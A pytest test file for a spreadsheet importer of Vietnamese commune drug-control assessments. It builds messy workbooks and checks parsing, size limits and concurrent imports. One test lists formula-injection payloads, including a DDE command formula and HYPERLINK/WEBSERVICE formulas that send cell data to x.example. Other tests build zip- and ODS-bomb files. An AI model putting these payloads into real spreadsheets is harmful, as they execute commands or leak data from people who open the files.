"""Workbooks as the province's offices send them, built here with openpyxl, xlwt and odfpy (not with
the importer): merged title rows, hand-typed headers, a column-number row, mixed name styles
(exact, no prefix, unaccented, old tone placement, pre-2025 names with the old district), a total
row and a signature block; in Unicode and in TCVN3; as .xlsx, .xls and .ods. A dry run must accept
every commune row, list every non-exact match, skip the non-data rows with an info line, and
write nothing."""

from __future__ import annotations

import csv
import datetime as dt
import os
import random
import subprocess
import sys
import zipfile
from pathlib import Path

import openpyxl
import pytest

from geo.importer import export_year, import_status
from geo.importer.status_import import CellError, parse_number
from geo.model import Assessment
from geo.paths import REPO_ROOT
from geo.store import open_store
from tests.conftest import db_hash
from tests.test_encoding import tcvn3

HEADERS = ["STT", "Tên đơn vị", "Huyện (cũ)", "Đã công nhận không ma túy", "Số QĐ", "Ngày QĐ",
           "Xã trọng điểm (loại)", "Số người nghiện", "Diện tích trồng (m2)", "Ghi chú"]
DATE = dt.datetime(2025, 3, 1)
# (row in the sheet, cells, expected code, exact?)
DATA = [
    (6, [1, "Xã Thượng Lâm", "Huyện Lâm Bình", "Có", "12/QĐ-UBND", "04/02/2025", None, 0, 0, None], "02269", True),
    (7, [2, "Minh Quang", None, "Không", None, None, "III", 5, "1.234,5", "tự ghi"], "02302", False),
    (8, [3, "xa kien dai", None, "Không", None, None, "II", "1.234", None, None], "02332", False),
    (9, [4, "Xã Thanh Thuỷ", None, "Không", None, None, None, 2, "12,5", None], "00928", False),
    (10, [5, "Thị trấn Việt Quang", "Huyện Bắc Quang", "Có", "5/QĐ-UBND", DATE, None, 0, 0, None], "01153", False),
    (11, [6, "Xã Tân Thành", "Hàm Yên", "Không", None, None, None, 3, 0, None], "02374", False),
    (12, [7, "Xã Mậu Duệ", None, "Có", "7/QĐ-UBND", "15/3/2025", None, 0, 0, None], "00847", True),
    (13, [8, "Xã Sơn Thủy", None, "Không", None, None, "III", 40, 800, None], "02620", True),
    (14, [9, "Phường Hà Giang 1", "Thành phố Hà Giang", "Không", None, None, None, 11, 0, "Diện tích đất"], "00694", True),
]
FOOTER = {  # row -> cells (by column index)
    15: {1: "Tổng cộng", 7: 1302},
    17: {0: "Ghi chú: số liệu tính đến hết tháng 11 năm 2025"},
    18: {6: "Tuyên Quang, ngày 20 tháng 12 năm 2025"},
    19: {1: "NGƯỜI LẬP BIỂU", 6: "TM. ỦY BAN NHÂN DÂN"},
    20: {6: "CHỦ TỊCH"},
    21: {1: "(Ký, ghi rõ họ tên)", 6: "(Đã ký)"},
    23: {1: "Nguyễn Văn An", 6: "Trần Thị Bình"},
}
MERGES = [(1, 1, 0, 3), (1, 1, 4, 9), (2, 2, 0, 9), (17, 17, 0, 9), (18, 18, 6, 9), (19, 19, 6, 9), (20, 20, 6, 9),
          (21, 21, 6, 9), (23, 23, 6, 9)]  # (row0, row1, col0, col1), 1-based rows, 0-based columns


def grid(legacy: bool = False) -> dict[int, dict[int, object]]:
    g: dict[int, dict[int, object]] = {
        1: {0: "ỦY BAN NHÂN DÂN TỈNH TUYÊN QUANG", 4: "CỘNG HÒA XÃ HỘI CHỦ NGHĨA VIỆT NAM"},
        2: {0: "BÁO CÁO KẾT QUẢ XÂY DỰNG XÃ, PHƯỜNG KHÔNG MA TÚY NĂM 2025"},
        4: dict(enumerate(HEADERS)),
        5: {i: f"({i + 1})" for i in range(len(HEADERS))},
    }
    for row, cells, _, _ in DATA:
        g[row] = {i: v for i, v in enumerate(cells) if v is not None}
    g.update(FOOTER)
    if legacy:
        g = {r: {c: tcvn3(v) if isinstance(v, str) else v for c, v in cells.items()} for r, cells in g.items()}
    return g


def write_xlsx(path: Path, g) -> Path:
    wb = openpyxl.Workbook()
    ws = wb.active
    ws.title = "Báo cáo"
    for r, cells in g.items():
        for c, v in cells.items():
            ws.cell(r, c + 1, v)
    for r0, r1, c0, c1 in MERGES:
        ws.merge_cells(start_row=r0, end_row=r1, start_column=c0 + 1, end_column=c1 + 1)
    wb.save(path)
    return path


def write_xls(path: Path, g) -> Path:
    import xlwt

    wb = xlwt.Workbook(encoding="utf-8")
    ws = wb.add_sheet("Báo cáo")
    date_style = xlwt.easyxf(num_format_str="DD/MM/YYYY")
    starts = {(r0, c0): (r1, c1) for r0, r1, c0, c1 in MERGES}
    covered = {(r, c) for r0, r1, c0, c1 in MERGES for r in range(r0, r1 + 1) for c in range(c0, c1 + 1)}
    for r, cells in g.items():
        for c, v in cells.items():
            if (r, c) in starts:
                r1, c1 = starts[(r, c)]
                ws.write_merge(r - 1, r1 - 1, c, c1, v)
            elif isinstance(v, dt.datetime):
                ws.write(r - 1, c, v, date_style)
            else:
                ws.write(r - 1, c, v)
    for (r0, c0), (r1, c1) in starts.items():
        if c0 not in g.get(r0, {}):
            ws.write_merge(r0 - 1, r1 - 1, c0, c1, "")
    assert covered
    wb.save(str(path))
    return path


def write_ods(path: Path, g) -> Path:
    from odf.opendocument import OpenDocumentSpreadsheet
    from odf.table import CoveredTableCell, Table, TableCell, TableRow
    from odf.text import P

    doc = OpenDocumentSpreadsheet()
    t = Table(name="Báo cáo")
    starts = {(r0, c0): (r1, c1) for r0, r1, c0, c1 in MERGES}
    covered = {(r, c) for (r0, c0), (r1, c1) in starts.items() for r in range(r0, r1 + 1)
               for c in range(c0, c1 + 1)} - set(starts)
    for r in range(1, max(g) + 1):
        tr = TableRow()
        for c in range(len(HEADERS)):
            v = g.get(r, {}).get(c)
            if (r, c) in covered:
                tr.addElement(CoveredTableCell())
                continue
            kw = {}
            if (r, c) in starts:
                r1, c1 = starts[(r, c)]
                kw = {"numbercolumnsspanned": c1 - c + 1, "numberrowsspanned": r1 - r + 1}
            if v is None:
                cell = TableCell(**kw)
            elif isinstance(v, dt.datetime):
                cell = TableCell(valuetype="date", datevalue=v.date().isoformat(), **kw)
                cell.addElement(P(text=v.strftime("%d/%m/%Y")))
            elif isinstance(v, (int, float)):
                cell = TableCell(valuetype="float", value=v, **kw)
                cell.addElement(P(text=str(v)))
            else:
                cell = TableCell(valuetype="string", **kw)
                cell.addElement(P(text=v))
            tr.addElement(cell)
        t.addElement(tr)
    doc.spreadsheet.addElement(t)
    doc.save(str(path))
    return path


WRITERS = {".xlsx": write_xlsx, ".xls": write_xls, ".ods": write_ods}


@pytest.fixture()
def store(tmp_db, boundaries_gpkg):
    s = open_store(tmp_db)
    yield s
    s.close()


@pytest.mark.parametrize("legacy", [False, True], ids=["unicode", "tcvn3"])
@pytest.mark.parametrize("ext", [".xlsx", ".xls", ".ods"])
def test_messy_staff_workbook_dry_run_lists_every_non_exact_match(store, tmp_path, ext, legacy):
    path = WRITERS[ext](tmp_path / f"bao-cao{ext}", grid(legacy))
    before = db_hash(store.path)
    rep = import_status(path, 2025, store, user="cb", dry_run=True)
    assert rep.ok, "\n".join(rep.lines())
    got = {a.code: a for a in rep.items}
    assert set(got) == {code for _, _, code, _ in DATA}
    listed = {m.row: m for m in rep.matches}
    assert set(listed) == {row for row, _, _, exact in DATA if not exact}, "\n".join(rep.lines())
    for row, cells, code, exact in DATA:
        if not exact:
            assert listed[row].code == code and listed[row].why and listed[row].written
    # figures in Vietnamese notation, Excel dates, hand-typed headers
    assert got["02302"].plant_area_m2 == 1234.5 and got["02332"].addicts == 1234
    assert got["00928"].plant_area_m2 == 12.5 and got["01153"].decision_date == dt.date(2025, 3, 1)
    assert got["00847"].decision_date == dt.date(2025, 3, 15) and got["02269"].decision_no == "12/QĐ-UBND"
    # non-data rows: skipped with an info line, never an error
    info = "\n".join(rep.skipped)
    for text in ("Tổng cộng", "NGƯỜI LẬP BIỂU", "Tuyên Quang, ngày 20 tháng 12 năm 2025", "Nguyễn Văn An",
                 "Ghi chú: số liệu", "(1)"):
        assert text in info, info
    if legacy:
        note = "\n".join(rep.notes)
        assert "TCVN3" in note and "→ “Tên đơn vị”" in note and "ô sang Unicode" in note, note
    out = "\n".join(rep.lines())
    assert "CẦN XÁC NHẬN: 5 dòng" in out and "“xa kien dai” → Xã Kiên Đài (02332)" in out
    assert db_hash(store.path) == before and store.assessments(2025) == {}


def test_cli_dry_run_on_a_missing_store_lists_matches_and_creates_nothing(tmp_path, boundaries_gpkg):
    path = write_xlsx(tmp_path / "bao-cao.xlsx", grid(True))
    db = tmp_path / "khong-co" / "app.db"
    env = {**os.environ, "TQMAP_DB": str(db)}
    out = subprocess.run([sys.executable, "-m", "geo", "status", "import", str(path), "--year", "2025", "--dry-run"],
                         cwd=REPO_ROOT, env=env, capture_output=True, text=True, timeout=300)
    assert out.returncode == 0, out.stdout + out.stderr
    assert "CẦN XÁC NHẬN: 5 dòng" in out.stdout and "Thị trấn Việt Quang" in out.stdout
    assert "không tạo tệp nào" in out.stdout
    assert not db.exists() and not db.parent.exists()


def test_a_row_with_figures_but_no_commune_is_still_an_error(store, tmp_path):
    g = grid()
    g[16] = {3: "Không", 7: 4}  # looks like data, no commune
    rep = import_status(write_xlsx(tmp_path / "a.xlsx", g), 2025, store, user="cb", dry_run=True)
    assert [e.row for e in rep.errors] == [16] and "thiếu cả mã xã lẫn tên xã" in rep.errors[0].message


def test_merged_cells_in_a_data_row_are_still_refused(store, tmp_path):
    path = write_xlsx(tmp_path / "a.xlsx", grid())
    wb = openpyxl.load_workbook(path)
    wb.active.merge_cells("H7:I7")
    wb.save(path)
    rep = import_status(path, 2025, store, user="cb", dry_run=True)
    assert [(e.row, e.column) for e in rep.errors] == [(7, "H")] and "gộp" in rep.errors[0].message


def test_drug_free_and_classed_in_one_row_is_refused(store, tmp_path):
    g = grid()
    g[13][3] = "Có"  # Xã Sơn Thủy: drug-free and class III
    before = db_hash(store.path)
    rep = import_status(write_xlsx(tmp_path / "c.xlsx", g), 2025, store, user="cb", dry_run=False)
    assert not rep.stored and [e.row for e in rep.errors] == [13], rep
    assert "Xã Sơn Thủy" in rep.errors[0].message and "QĐ 28" in rep.errors[0].message
    assert "dòng 13" in rep.errors[0].text() and rep.errors[0].sheet == "Báo cáo"
    assert db_hash(store.path) == before


@pytest.mark.parametrize("text,integer,value", [
    ("1.234", True, 1234), ("1.234.567", True, 1234567), ("1.234,5", False, 1234.5), ("12,5", False, 12.5),
    ("12.5", False, 12.5), ("1,234.5", False, 1234.5), (" 1 234 ", True, 1234), (12.0, True, 12), (7, True, 7),
    (12.25, False, 12.25), ("0", True, 0), ("", True, 0)])
def test_vietnamese_and_excel_numbers(text, integer, value):
    got = parse_number(text, integer)
    assert got == value and type(got) is (int if integer else float)


@pytest.mark.parametrize("text", ["12,5", "khoảng 40", "1.23.4", "-3", "1e400"])
def test_bad_numbers_say_why(text):
    with pytest.raises(CellError):
        parse_number(text, True)


HOSTILE = ["=HYPERLINK(\"http://x.example/?\"&A1,\"bấm\")", "+1+1", "-5 người", "@SUM(A1:A9)",
           "=cmd|' /C calc'!A0", "'=1+1", "''-2", "'bình thường", "=WEBSERVICE(\"http://x.example\")"]


def test_export_has_no_live_formula_and_reimports_unchanged(store, tmp_path):
    codes = ["02269", "00694", "02302", "02332", "00928", "01153", "00847", "02620", "02374"]
    items = [Assessment(c, 2025, complexity_class="II", note=HOSTILE[i], decision_no=HOSTILE[-1 - i],
                        source_ref=HOSTILE[(i + 3) % len(HOSTILE)]) for i, c in enumerate(codes)]
    store.upsert_assessments(2025, items, user="t", reason="hostile")
    out = export_year(store, 2025, tmp_path / "export.xlsx")
    with zipfile.ZipFile(out) as z:
        xml = z.read("xl/worksheets/sheet1.xml").decode()
    assert "<f>" not in xml and "<f " not in xml  # no formula element at all
    wb = openpyxl.load_workbook(out)
    for ws in wb.worksheets:
        for row in ws.iter_rows():
            for c in row:
                assert c.data_type != "f", (c.coordinate, c.value)
                if isinstance(c.value, str):
                    assert c.value[:1] not in "=+-@", (c.coordinate, c.value)
    revs = len(store.revisions())
    before = db_hash(store.path)
    rep = import_status(out, 2025, store, user="t", dry_run=False)
    assert rep.ok and rep.changed == 0 and not rep.stored, "\n".join(rep.lines())
    assert len(store.revisions()) == revs and db_hash(store.path) == before
    got = store.assessments(2025)
    assert [got[c].note for c in codes] == HOSTILE[: len(codes)]


# --- uploads bounded by work ---------------------------------------------------------------------

def _big_xlsx(path: Path, unpacked_mb: int) -> Path:
    """A real .xlsx whose sheet XML unpacks to ``unpacked_mb`` MB (compresses ~10:1, like the 13.6 MB
    file of the issue that unpacked to 194 MB)."""
    wb = openpyxl.Workbook()
    wb.active.append(["Mã xã", "Không ma túy (Có/Không)"])
    wb.save(path)
    rnd = random.Random(1)
    with zipfile.ZipFile(path) as z:
        members = {n: z.read(n) for n in z.namelist()}
    head = b'<?xml version="1.0" encoding="UTF-8"?><worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><sheetData>'
    rows, size, r = [], len(head), 1
    while size < unpacked_mb * 1024 * 1024:
        row = (f'<row r="{r}"><c r="A{r}" t="inlineStr"><is><t>x{rnd.randrange(10 ** 6)}</t></is></c>'
               f'<c r="B{r}"><v>{rnd.randrange(10 ** 4)}</v></c></row>').encode()
        rows.append(row)
        size += len(row)
        r += 1
    members["xl/worksheets/sheet1.xml"] = head + b"".join(rows) + b"</sheetData></worksheet>"
    with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED) as z:
        for n, data in members.items():
            z.writestr(n, data)
    return path


def test_an_xlsx_that_unpacks_too_far_is_refused_before_parsing(store, tmp_path, monkeypatch):
    from geo.importer.safety import MAX_FILE_BYTES, MAX_UNCOMPRESSED_BYTES

    path = _big_xlsx(tmp_path / "to.xlsx", MAX_UNCOMPRESSED_BYTES // 1048576 + 5)
    assert path.stat().st_size < MAX_FILE_BYTES  # small enough to pass the byte limit
    called = []
    monkeypatch.setattr(openpyxl, "load_workbook", lambda *a, **k: called.append(1))
    before = db_hash(store.path)
    rep = import_status(path, 2025, store, user="t", dry_run=False)
    assert not called  # refused from the zip directory alone
    assert rep.errors and "giải nén" in rep.errors[0].message and "vượt giới hạn" in rep.errors[0].message
    assert db_hash(store.path) == before


def test_too_many_rows_are_refused_while_streaming(store, tmp_path):
    from geo.importer.safety import MAX_ROWS

    wb = openpyxl.Workbook(write_only=True)
    ws = wb.create_sheet("Dữ liệu")
    ws.append(["Mã xã", "Không ma túy (Có/Không)"])
    for i in range(MAX_ROWS + 10):
        ws.append([f"{i:05d}", "Không"])
    wb.save(tmp_path / "rows.xlsx")
    rep = import_status(tmp_path / "rows.xlsx", 2025, store, user="t", dry_run=True)
    assert rep.errors and "dòng" in rep.errors[0].message and "20.000" in rep.errors[0].message, rep.errors


def test_an_ods_with_repeated_rows_is_refused_before_pandas_expands_it(store, tmp_path, monkeypatch):
    import pandas as pd

    content = ('<?xml version="1.0" encoding="UTF-8"?><office:document-content '
               'xmlns:office="urn:oasis:names:tc:opendocument:xmlns:office:1.0" '
               'xmlns:table="urn:oasis:names:tc:opendocument:xmlns:table:1.0" '
               'xmlns:text="urn:oasis:names:tc:opendocument:xmlns:text:1.0" office:version="1.2">'
               '<office:body><office:spreadsheet><table:table table:name="S">'
               '<table:table-row table:number-rows-repeated="1000000">'
               '<table:table-cell office:value-type="string" table:number-columns-repeated="1000"><text:p>x</text:p>'
               '</table:table-cell></table:table-row></table:table></office:spreadsheet></office:body>'
               '</office:document-content>')
    p = tmp_path / "bom.ods"
    with zipfile.ZipFile(p, "w", zipfile.ZIP_DEFLATED) as z:
        z.writestr("mimetype", "application/vnd.oasis.opendocument.spreadsheet")
        z.writestr("content.xml", content)
    monkeypatch.setattr(pd, "read_excel", lambda *a, **k: pytest.fail("pandas must not expand it"))
    rep = import_status(p, 2025, store, user="t", dry_run=True)
    assert rep.errors and "quá lớn" in rep.errors[0].message, rep.errors


def test_uploads_leave_no_temporary_files(tmp_path, monkeypatch, boundaries_gpkg):
    import tempfile

    from geo.importer import status_import, uploads

    tmp = tmp_path / "tmp"
    tmp.mkdir()
    monkeypatch.setattr(tempfile, "tempdir", str(tmp))
    good = write_xlsx(tmp_path / "g.xlsx", grid()).read_bytes()
    assert uploads.parse_status_upload(good, "g.xlsx", 2025).ok
    assert uploads.parse_status_upload(b"not a workbook", "x.xlsx", 2025).errors
    assert uploads.parse_routes_upload(b"{}", "r.geojson").errors

    def boom(*a, **k):
        raise RuntimeError("parser crashed")

    monkeypatch.setattr(status_import, "parse_status", boom)
    with pytest.raises(RuntimeError):
        uploads.parse_status_upload(good, "g.xlsx", 2025)
    assert not list(tmp.glob("tq-upload-*"))
    assert uploads.digest(good) == uploads.digest(bytes(good)) != uploads.digest(good + b" ")


# --- simultaneous imports: every revision equals its file (issue 15, item 8) ---------------------

def _random_files(folder: Path, n: int, seed: int, codes: list[str]) -> list[Path]:
    rnd = random.Random(seed)
    out = []
    for i in range(n):
        p = folder / f"f{seed}-{i:02d}.csv"
        with open(p, "w", newline="", encoding="utf-8") as f:
            w = csv.writer(f)
            w.writerow(["Mã xã", "Không ma túy (Có/Không)", "Loại trọng điểm (I/II/III)", "Người nghiện có hồ sơ quản lý"])
            for code in rnd.sample(codes, 60):
                free = rnd.random() < 0.4
                w.writerow([code, "Có" if free else "Không", "" if free else rnd.choice(["", "I", "II", "III"]),
                            rnd.randrange(0, 4)])
        out.append(p)
    return out


def test_two_processes_twenty_imports_each_every_revision_equals_its_file(tmp_path, boundaries_gpkg):
    from geo import boundaries

    codes = sorted(boundaries.commune_table()["code"])
    db = tmp_path / "app.db"
    open_store(db).close()
    files = {p.name: p for seed in (1, 2) for p in _random_files(tmp_path, 20, seed, codes)}
    script = ("import sys; from geo.store import open_store; from geo.importer import import_status\n"
              "s = open_store(sys.argv[1])\n"
              "for p in sys.argv[2:]:\n"
              "    r = import_status(p, 2025, s, user='p', dry_run=False, reason='đồng thời')\n"
              "    assert r.ok, r\n"
              "s.close()\n")
    procs = [subprocess.Popen([sys.executable, "-c", script, str(db),
                               *[str(p) for n, p in sorted(files.items()) if n.startswith(f"f{seed}-")]],
                              cwd=REPO_ROOT, stdout=subprocess.PIPE, stderr=subprocess.STDOUT, text=True)
             for seed in (1, 2)]
    for pr in procs:
        out, _ = pr.communicate(timeout=600)
        assert pr.returncode == 0, out
    s = open_store(db)
    try:
        revs = [r for r in s.revisions(limit=1000) if r.source in files]
        assert len(revs) == 40
        seed_rev = min(r.id for r in s.revisions(limit=1000))
        for rev in revs:
            state = {}
            for ch in s.diff(seed_rev, rev.id):
                if ch.entity == "assessment" and ch.field == "*" and ch.after:
                    state[ch.key.split("/")[1]] = ch.after
            with open(files[rev.source], encoding="utf-8") as f:
                rows = list(csv.reader(f))[1:]
            for code, free, cls, addicts in rows:
                got = state[code]
                assert (got["drug_free"], got["complexity_class"], got["addicts"]) == (free == "Có", cls, int(addicts)), \
                    (rev.id, rev.source, code)
    finally:
        s.close()


def test_the_page_parses_an_upload_once_whatever_reruns(monkeypatch, boundaries_gpkg):
    """The import page's parse is cached by the upload's sha256 (with its name, year and route
    communes): a rerun — a language switch, another widget — does not parse again."""
    import importlib

    import streamlit as st

    page = importlib.import_module("pages.nhap_du_lieu")
    st.cache_data.clear()
    calls = []
    real = page.parse_status_upload

    def counting(*a, **k):
        calls.append(1)
        return real(*a, **k)

    monkeypatch.setattr(page, "parse_status_upload", counting)
    import tempfile

    from geo.importer import digest

    with tempfile.TemporaryDirectory() as d:
        data = write_xlsx(Path(d) / "cache.xlsx", grid()).read_bytes()

    first = page._parsed_status(digest(data), "bao-cao.xlsx", 2025, frozenset(), data)
    again = page._parsed_status(digest(data), "bao-cao.xlsx", 2025, frozenset(), data)
    assert len(calls) == 1 and first.ok and [a.code for a in again.items] == [a.code for a in first.items]
    page._parsed_status(digest(data + b" "), "bao-cao.xlsx", 2025, frozenset(), data + b" ")
    assert len(calls) == 2  # other bytes: parsed
    st.cache_data.clear()


@pytest.mark.parametrize("text,field", [
    ("Mã ĐVHC", "code"), ("Mã đơn vị hành chính", "code"), ("Tên xã, phường, thị trấn", "name"),
    ("Tên đơn vị", "name"), ("Huyện (cũ)", "former_districts"), ("Huyện trước sắp xếp", "former_districts"),
    ("Không ma tuý (Có/Không)", "drug_free"), ("Đã được công nhận không ma túy", "drug_free"),
    ("Xã trọng điểm (loại)", "complexity_class"), ("Phân loại", "complexity_class"),
    ("Năm đăng ký xã không ma túy", "target_year"), ("Số QĐ", "decision_no"), ("Ngày QĐ", "decision_date"),
    ("Ngày công nhận", "decision_date"), ("Số người nghiện", "addicts"), ("Người sử dụng trái phép", "users"),
    ("Số người sau cai", "post_rehab"), ("Điểm, tụ điểm", "spots"), ("Nơi tổ chức, chứa chấp", "harbour_places"),
    ("Số vụ phạm tội", "cases"), ("Số đối tượng bị bắt", "offenders"), ("Số cây", "plants"),
    ("Diện tích trồng (m2)", "plant_area_m2"), ("Ghi chú", "note"), ("Nguồn", "source_ref"), ("STT", None),
    ("Tổng cộng", None)])
def test_hand_typed_headers(text, field):
    from geo.importer.table import header_field

    assert header_field(text) == field
